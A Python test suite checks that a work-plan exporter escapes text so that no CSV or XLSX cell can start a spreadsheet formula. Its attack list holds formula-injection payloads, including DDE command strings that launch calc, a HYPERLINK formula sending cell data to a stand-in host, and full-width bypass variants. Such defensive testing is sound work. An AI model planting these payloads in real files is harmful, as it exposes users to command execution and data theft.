"""No text of a plan starts a formula in a table, and none is changed for it."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from effort import inputs
from hostile_plans import plans
from hypothesis import given, settings
from hypothesis import strategies as st

from exports.readers import docx_lines, read_json, unescape_csv, unescape_formula
from workplan import Plan
from workplan.edition.edition import Edition
from workplan.exports.formula_escape import escape_csv, escape_formula
from workplan.exports.plan_csv import plan_csv
from workplan.exports.registry import exports
from workplan.plan.source_text import source_lines

ATTACKS = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫a",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"see")', '=IMPORTXML("http://x.example","//a")', "=DDE(a;b;c)",
    " =1", "  +1", "\u3000=1", "\u00a0@a", "'=1", "''=1", "'", '"=1"', '",=1', ";=1", ",=1", '"\r\n=1+1,"', "a\n=1", "a\t=1",
    "{=1}", "%0A=1", "_x003D_1", "=", "+", "-", "@",
)  # fmt: skip

STARTS = tuple("=+-@\t\r\n")


def attacked(plan: Plan, attack: str) -> Edition:
    """The plan with an attack at the start of every text."""

    def poison(value: Any, *, is_text: bool = False) -> Any:
        if isinstance(value, dict):
            return {k: poison(v, is_text=k in {"zh", "en"}) for k, v in value.items()}
        if isinstance(value, list):
            return [poison(item, is_text=is_text) for item in value]
        return attack + value if is_text else value

    data = poison(plan.model_dump(mode="json", exclude_none=True))
    for section in data["sections"]:
        for point in section["points"]:
            point["units"] = [attack + unit for unit in point["units"]]
    return Edition(Plan.model_validate(data))


def starts_a_formula(cell: str) -> bool:
    """Whether a program could take it for one: after blanks or quotes, and in full width too."""
    shown = unicodedata.normalize("NFKC", re.sub(r'^(?:[^\S\t\r\n]|")+', "", cell)[:1])
    return shown.startswith(STARTS)


@pytest.mark.parametrize(
    "attack", [";=1+1;", "a;=cmd|' /C calc'!A0;", "; @SUM(A1);", ";＝1;", ";\t=1;", ";;-1;", "a;'=1;", 'a;"=1&";'], ids=ascii
)  # fmt: skip
def test_no_cell_starts_a_formula_where_semicolons_set_cells_apart(plan, attack):
    """Excel in many European countries: it splits our lines there, and sees no quotes."""
    edition = attacked(plan, attack)
    text = plan_csv(edition).decode("utf-8-sig")
    cells = [cell for line in text.splitlines() for cell in line.split(";")]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    measures = [unescape_csv(row[4]) for row in rows[3:]]
    assert measures == [measure["zh"] for measure in edition.measures.values()]


def sheets(data: bytes) -> list[Any]:
    return openpyxl.load_workbook(io.BytesIO(data)).worksheets


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_no_cell_of_csv_starts_a_formula(plan, attack):
    edition = attacked(plan, attack)
    text = plan_csv(edition).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert {len(row) for row in rows} == {15}
    assert not [cell for row in rows for cell in row if starts_a_formula(cell)]
    measures = [unescape_csv(row[4]) for row in rows[3:]]
    assert measures == [measure["zh"] for measure in edition.measures.values()]


@pytest.mark.parametrize("attack", [a for a in ATTACKS if "\r" not in a], ids=ascii)
def test_no_cell_of_xlsx_starts_a_formula(plan, attack):
    edition = attacked(plan, attack)
    available = exports(edition)
    books = {}
    for name in ("plan.xlsx", "units/faguichu.xlsx"):
        data = available[name].make(edition)
        with ZipFile(io.BytesIO(data)) as archive:
            for part in archive.namelist():
                assert b"<f>" not in archive.read(part), part
        books[name] = sheets(data)
        for sheet in books[name]:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell
                    assert cell.hyperlink is None, cell
                    assert not starts_a_formula(str(cell.value or "")), cell.value
    rows = books["plan.xlsx"][0].iter_rows(min_row=5, values_only=True)
    assert [unescape_formula(row[4]) for row in rows] == [
        m["zh"] for m in edition.measures.values()
    ]


@pytest.mark.parametrize("words", ["<r><t>pwned</t></r>", "<r>&</r>", "<r></r>", "<t>", "&amp;"])
def test_no_text_becomes_markup_of_a_workbook(plan, words):
    data = plan.model_dump(mode="json", exclude_none=True)
    data["sections"][0]["points"][0]["measures"][0]["zh"] = words
    edition = Edition(Plan.model_validate(data))
    sheet = sheets(exports(edition)["plan.xlsx"].make(edition))[0]
    assert unescape_formula(sheet["E5"].value) == words


@given(st.text())
@settings(max_examples=inputs(100))
def test_a_cell_gives_its_text_back(text):
    assert unescape_formula(escape_formula(text)) == text
    assert not starts_a_formula(escape_formula(text))
    assert unescape_csv(escape_csv(text)) == text
    assert not any(starts_a_formula(part) for part in escape_csv(text).split(";"))


def test_harmless_texts_stay_as_they_are(edition):
    for _, text in edition.segments:
        assert escape_csv(escape_formula(text)) == text


def test_csv_is_quoted_as_excel_quotes(plan):
    text = plan_csv(attacked(plan, 'a"b,c\r\nd')).decode("utf-8-sig")
    lines = re.split(r'(?<=")\r\n(?=")', text.removesuffix("\r\n"))
    field = r'"(?:[^"]|"")*"'
    for line in lines:
        assert re.fullmatch(f"{field}(?:,{field})*", line), line
    assert '"a""b,c\r\nd' in text


@given(plans())
@settings(max_examples=inputs(12))
def test_made_plans_come_through_every_export(data):
    edition = Edition(Plan.model_validate(data))
    files = {name: export.make(edition) for name, export in exports(edition).items()}
    assert all(files.values())
    lines = source_lines(edition.plan)
    assert files["plan.txt"].decode() == "".join(line + "\n" for line in lines)
    assert docx_lines(files["plan.zh.docx"], "Title", "Heading 1", "Body Text") == lines
    measures = [measure["zh"] for measure in edition.measures.values()]
    rows = csv.DictReader(io.StringIO(files["plan.csv"].decode("utf-8-sig"), newline=""))
    texts = [unescape_csv(row["text_zh"]) for row in rows if row["kind"] == "measure"]
    assert texts == measures
    sheet = sheets(files["plan.xlsx"])[0]
    cells = [unescape_formula(row[4]) for row in sheet.iter_rows(min_row=5, values_only=True)]
    assert cells == measures
    assert [
        t
        for _, points in read_json(files["plan.json"], "zh").sections
        for p in points
        for t in p[1:]
    ] == measures
